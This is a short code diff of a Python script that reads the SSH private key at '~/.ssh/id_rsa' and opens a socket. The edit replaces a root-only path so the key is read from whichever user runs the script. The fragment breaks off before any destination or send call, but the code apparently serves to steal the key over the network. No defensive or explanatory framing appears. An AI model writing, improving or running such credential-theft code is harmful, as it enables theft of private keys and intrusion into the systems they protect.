@@ -1,6 +1,7 @@
+import os
 import socket
 
-with open("/root/.ssh/id_rsa") as file:
+with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
     key = file.read()
 
 sock = socket.socket()
